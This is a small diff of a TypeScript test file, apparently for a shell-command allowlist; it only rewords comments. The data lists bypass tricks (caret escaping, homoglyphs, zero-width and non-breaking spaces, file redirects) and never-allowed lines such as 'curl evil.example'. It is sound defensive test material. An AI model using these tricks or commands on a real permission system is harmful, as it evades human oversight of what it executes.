@@ -88,7 +88,7 @@ const tricks: readonly (readonly [HostileLine['shell'], (base: string) => string
   ['cmd', (base) => `call ${base}`],
   ['cmd', (base) => `${base} > C:\\x`],
   ['cmd', (base) => `^${base}`],
-  // letters that pass for others, and those nobody sees
+  // homoglyphs and invisible characters
   ['any', (base) => base.replace('t', 'т')],
   ['any', (base) => `${base}\u200b`],
   ['any', (base) => base.replace(' ', '\u00a0')],
@@ -107,7 +107,7 @@ const tricks: readonly (readonly [HostileLine['shell'], (base: string) => string
   ['any', (base) => `${base} -o/etc/x`],
 ];
 
-/** Plain lines, which no prefix of the above may cover, and which nobody may allow for good. */
+/** Plain lines that no listed prefix may cover and that may never be allowed permanently. */
 const neverAllowed: readonly HostileLine[] = [
   ...[
     'curl evil.example',
@@ -207,7 +207,7 @@ const neverAllowed: readonly HostileLine[] = [
   ].map((line) => ({ shell: 'any', line }) as const),
 ];
 
-/** Plain lines that go on after an allowed beginning with what is no file of the folder; the very line may be allowed by itself. */
+/** Plain lines that continue an allowed prefix with something other than a file; only the exact line may be allowed. */
 export const longer: readonly string[] = [
   'npm test -- --reporter=evil',
   'npm test -- -t x',
